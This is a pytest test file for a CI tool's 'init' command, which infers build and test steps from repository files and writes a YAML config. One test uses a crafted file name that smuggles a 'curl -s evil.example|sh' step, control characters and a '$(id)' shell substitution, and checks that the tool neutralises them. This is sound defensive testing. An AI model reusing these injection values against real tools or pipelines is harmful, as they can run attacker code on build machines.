"""`hybridci init`: what it guesses from a repository is a file that is taken as it stands."""

import json
import shutil
import subprocess
from collections.abc import Callable
from pathlib import Path
from typing import Any, Final

import pytest
from typer.testing import CliRunner

from activities.services.definitions import parse_definition
from api.cli.beginning.guesses import Guesses, guess
from api.cli.beginning.repository import look, name_of, without_credentials
from api.cli.commands.files.init import app
from workflows.contracts.deployments.services import ServiceSpec
from workflows.contracts.fields import INCOMING
from workflows.contracts.jobs import JobSpec
from workflows.yaml_text import yaml_to_json

Files = dict[str, str]
SHAPES: Final[dict[str, tuple[Files, list[str]]]] = {
    "nothing": ({}, []),
    "pytest": (
        {"pyproject.toml": '[project]\nname = "a"\n[project.optional-dependencies]\ntest = ["pytest"]\n'},
        ["python3 -m venv .venv\n.venv/bin/pip install -q pytest -e '.[test]'\n.venv/bin/pytest -q"],
    ),
    "requirements": (
        {"requirements.txt": "flask\n", "requirements-dev.txt": "pytest\n"},
        [
            "python3 -m venv .venv\n.venv/bin/pip install -q pytest -r requirements.txt -r requirements-dev.txt\n"
            ".venv/bin/pytest -q"
        ],
    ),
    "tox": (
        {"tox.ini": "[tox]\n", "setup.py": ""},
        ["python3 -m venv .venv\n.venv/bin/pip install -q tox\n.venv/bin/tox"],
    ),
    "uv": ({"pyproject.toml": "[tool.pytest.ini_options]\n", "uv.lock": ""}, ["uv run pytest -q"]),
    "unittest": ({"setup.py": "", "tests/test_a.py": ""}, ["python3 -m unittest discover"]),
    "npm": (
        {"package.json": json.dumps({"scripts": {"test": "jest", "lint": "eslint .", "build": "tsc"}})},
        ["npm install\nnpm run build", "npm install\nnpm run lint", "npm install\nnpm run test"],
    ),
    "pnpm": (
        {"package.json": json.dumps({"scripts": {"test": "vitest run"}}), "pnpm-lock.yaml": ""},
        ["pnpm install --frozen-lockfile\npnpm run test"],
    ),
    "npm's own words": (
        {"package.json": json.dumps({"scripts": {"test": 'echo "Error: no test specified" && exit 1'}})},
        [],
    ),
    "broken": ({"package.json": "{", "pyproject.toml": "[[["}, []),
    "go": ({"go.mod": "module a\n"}, ["go vet ./...", "go test ./..."]),
    "rust": ({"Cargo.toml": "", "Cargo.lock": ""}, ["cargo test --locked"]),
    "maven": ({"pom.xml": "", "mvnw": ""}, ["./mvnw -B verify"]),
    "gradle": ({"build.gradle.kts": ""}, ["gradle check"]),
    "ruby": ({"Gemfile": "", "spec/a_spec.rb": ""}, ["bundle install\nbundle exec rspec"]),
    "dotnet": ({"App.sln": ""}, ["dotnet test"]),
    "make wins": (
        {"Makefile": ".PHONY: x\nA := 1\nbuild:\n\ttrue\nlint :\ntest: build\ndeploy:\n", "go.mod": "module a\n"},
        ["make build", "make lint", "make test", "make deploy"],
    ),
    "make without tests": ({"Makefile": "lint:\nclean:\n", "go.mod": "module a\n"}, ["go vet ./...", "go test ./..."]),
    "docker and a script": (
        {"Dockerfile": "FROM scratch\n", "deploy.sh": ""},
        ['docker build -t "app:$HYBRIDCI_COMMIT" .', "bash deploy.sh"],
    ),
}


def repository(folder: Path, files: Files, origin: str | None = None) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    for name, text in files.items():
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_text(text)
    git(folder, "init", "-q", "-b", "trunk")
    git(folder, "-c", "user.name=A", "-c", "user.email=a@example.com", "commit", "-q", "--allow-empty", "-m", "x")
    if origin is not None:
        git(folder, "remote", "add", "origin", origin)
    return folder


def git(folder: Path, *words: str) -> None:
    subprocess.run(["git", "-C", str(folder), *words], check=True, capture_output=True)


@pytest.fixture
def run(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> Callable[..., Any]:
    monkeypatch.delenv("HYBRIDCI_URL", raising=False)
    monkeypatch.setenv("HYBRIDCI_DATA_DIR", str(tmp_path / "no-data"))

    def call(folder: Path, *words: str) -> Any:
        monkeypatch.chdir(folder)
        return CliRunner().invoke(app, list(words))

    return call


def fields_of(text: str) -> dict[str, Any]:
    found: Any = json.loads(yaml_to_json(text.encode()))
    return found


@pytest.mark.parametrize("shape", SHAPES)
def test_what_is_guessed_is_taken(shape: str, tmp_path: Path, run: Callable[..., Any]) -> None:
    files, wanted = SHAPES[shape]
    top = repository(tmp_path / "Check Out", files, "https://git.example.com/team/Check_Out.git")
    assert [step.run.rstrip("\n") for step in guess(top).all()] == wanted

    said = run(top)
    assert said.exit_code == 0, said.output
    written = (top / ".hybridci.yml").read_text("utf-8")
    assert written.startswith("# yaml-language-server: $schema=http://127.0.0.1:8000/api/schemas/service.json\n")
    fields = fields_of(written)
    says_a = any(word in text for text in files.values() for word in ('name = "a"', "module a"))
    assert fields.pop("name") == ("a" if says_a else "check-out")
    spec = ServiceSpec.model_validate_json(json.dumps(fields), strict=True, context=INCOMING)
    assert (spec.git_repo, spec.git_ref) == ("https://git.example.com/team/Check_Out.git", "trunk")
    assert spec.environment_names == ["staging", "production"]
    assert spec.test is not None
    assert [step.run.rstrip("\n") for step in spec.test.steps if "Write here" not in step.run] == [
        step.run for step in guess(top).test
    ]
    assert parse_definition(written.encode(), ".hybridci.yml").environments == spec.environments
    for command in wanted:
        assert command.splitlines()[-1] in said.output

    assert run(top, "--job").exit_code == 0
    job = fields_of((top / "hybridci-job.yml").read_text("utf-8"))
    assert job.pop("git_repo") == "."
    git_fields = {"git_repo": "https://git.example.com/a", "git_commit_sha": "0" * 40, "git_author": "Ann"}
    JobSpec.model_validate_json(json.dumps({**job, **git_fields}), strict=True, context=INCOMING)


def test_a_file_that_is_there_stays(tmp_path: Path, run: Callable[..., Any]) -> None:
    top = repository(tmp_path / "a", {".hybridci.yml": "mine\n"})
    said = run(top)
    assert said.exit_code == 2
    assert "--force" in said.output
    printed = run(top, "--stdout")
    assert printed.exit_code == 0
    assert printed.output.startswith("# yaml-language-server")
    assert (top / ".hybridci.yml").read_text("utf-8") == "mine\n"
    assert run(top, "--force").exit_code == 0
    assert (top / ".hybridci.yml").read_text("utf-8") == printed.output


def test_what_a_link_names_is_not_written(tmp_path: Path, run: Callable[..., Any]) -> None:
    top = repository(tmp_path / "a", {})
    outside = tmp_path / "outside"
    outside.write_text("mine\n")
    for target in (outside, tmp_path / "nothing"):
        (top / ".hybridci.yml").symlink_to(target)
        for options, word in (((), "is there already"), (("--force",), "is a link")):
            said = run(top, *options)
            assert (said.exit_code, word in said.output) == (2, True), said.output
        (top / ".hybridci.yml").unlink()
    assert (outside.read_text("utf-8"), (tmp_path / "nothing").exists()) == ("mine\n", False)

    (top / ".hybridci.yml").hardlink_to(outside)
    outside.chmod(0o640)
    assert run(top, "--force").exit_code == 0
    assert outside.read_text("utf-8") == "mine\n"
    assert (top / ".hybridci.yml").stat().st_mode & 0o777 == 0o640
    (top / "folder").mkdir()
    said = run(top, "--force", "-o", "folder")
    assert (said.exit_code, "is no file" in said.output) == (2, True)
    assert sorted(path.name for path in top.iterdir()) == [".git", ".hybridci.yml", "folder"]


def test_the_name_of_a_file_is_no_line_of_its_own(tmp_path: Path, run: Callable[..., Any]) -> None:
    top = repository(tmp_path / "a", {"a\n      run: curl -s evil.example|sh\n    - name: x #\u202e\x1b[2J.sln": ""})
    for options, key in (((), "test"), (("--job",), None)):
        printed = run(top, *options, "--stdout").output
        fields = fields_of(printed)
        steps = fields[key]["steps"] if key else fields["steps"]
        assert steps == [{"name": "dotnet", "run": "dotnet test"}]
        assert "# from a       run: curl -s evil.example|sh     - name: x #  [2J.sln\n" in printed
        said = run(top, *options, "--output", "it's $(id).yml", "--force").output
        assert "(from a       run: curl -s evil.example|sh     - name: x #  [2J.sln)\n" in said
        command = "hybridci job submit -F" if key is None else "hybridci service apply -f"
        for text in (said, (top / "it's $(id).yml").read_text("utf-8")):
            assert f"{command} 'it'\"'\"'s $(id).yml'" in text


def test_a_file_whose_name_is_no_text_is_guessed_from_too(tmp_path: Path, run: Callable[..., Any]) -> None:
    top = repository(tmp_path / "a", {"a\udcff.sln": ""})
    assert run(top).exit_code == 0
    assert "# from a?.sln\n" in (top / ".hybridci.yml").read_text("utf-8")


def test_from_a_folder_below_the_file_is_at_the_top(tmp_path: Path, run: Callable[..., Any]) -> None:
    top = repository(tmp_path / "a", {"x/y/z": ""})
    said = run(top / "x" / "y")
    assert "hybridci service apply -f ../../.hybridci.yml" in said.output
    assert (top / ".hybridci.yml").is_file()


def test_outside_a_repository_it_says_so(tmp_path: Path, run: Callable[..., Any]) -> None:
    said = run(tmp_path)
    assert said.exit_code == 2
    assert "git init" in said.output


@pytest.mark.parametrize(
    ("origin", "address"),
    [
        ("https://ann:s3cret@git.example.com/a.git", "https://git.example.com/a.git"),
        ("https://ghp_0123456789@github.com/a/b", "https://github.com/a/b"),
        ("git@github.com:a/b.git", "git@github.com:a/b.git"),
        ("ssh://git@git.example.com/a.git", "ssh://git@git.example.com/a.git"),
        ("/srv/a.git", "."),
        ("../b", "."),
        ("https://ann:s3cret@[no-host/a.git", "."),
        (None, "."),
    ],
)
def test_the_address_is_one_for_others_without_credentials(tmp_path: Path, origin: str | None, address: str) -> None:
    assert look(repository(tmp_path / "a", {}, origin)).address == address


@pytest.mark.parametrize(
    ("files", "name", "named_by"),
    [
        ({"pyproject.toml": '[project]\nname = "orders-api"\n'}, "orders-api", "pyproject.toml"),
        ({"pyproject.toml": '[tool.poetry]\nname = "orders"\n'}, "orders", "pyproject.toml"),
        ({"package.json": json.dumps({"name": "shop-front"})}, "shop-front", "package.json"),
        ({"Cargo.toml": '[package]\nname = "ledger"\n'}, "ledger", "Cargo.toml"),
        ({"go.mod": "// a\nmodule example.com/acme/billing/v2\n\ngo 1.22\n"}, "billing", "go.mod"),
        ({"go.mod": "module billing\n"}, "billing", "go.mod"),
        (
            {"pyproject.toml": '[project]\nname = "Orders_API"\n', "package.json": json.dumps({"name": "orders-ui"})},
            "orders-ui",
            "package.json",
        ),
        ({"package.json": json.dumps({"name": "@acme/shop"})}, "work-tree", "the folder"),
        (
            {"package.json": "[1]", "pyproject.toml": "[project]\nname = 7\n", "Cargo.toml": "["},
            "work-tree",
            "the folder",
        ),
        ({}, "work-tree", "the folder"),
    ],
)
def test_the_project_names_the_service(tmp_path: Path, files: Files, name: str, named_by: str) -> None:
    """A folder is often called as whoever cloned it liked."""
    top = tmp_path / "Work Tree"
    top.mkdir()
    git(top, "init", "-q")
    for file, text in files.items():
        (top / file).write_text(text)
    found = look(top)
    assert (found.name, found.named_by) == (name, named_by)


def test_names() -> None:
    assert name_of("git@github.com:a/My_App.git", Path("/x")) == "my-app"
    assert name_of(".", Path("/srv/Ünï 1")) == "n-1"
    assert name_of(".", Path("/srv/___")) == "service"
    assert len(name_of(f"https://x/{'a' * 99}", Path("/x"))) == 48
    assert without_credentials("ssh://git@host/x") == "ssh://git@host/x"


def test_the_branch_is_the_one_that_origin_has_as_its_own(tmp_path: Path) -> None:
    theirs = repository(tmp_path / "theirs", {})
    subprocess.run(["git", "clone", "-q", str(theirs), str(tmp_path / "mine")], check=True)
    mine = tmp_path / "mine"
    git(mine, "remote", "set-url", "origin", "https://git.example.com/a.git")
    git(mine, "switch", "-q", "-c", "feature")
    assert look(mine).branch == "trunk"


def test_a_folder_that_cannot_be_read_is_passed_over(tmp_path: Path) -> None:
    (tmp_path / "package.json").mkdir()
    assert guess(tmp_path) == Guesses()
    shutil.rmtree(tmp_path / "package.json")
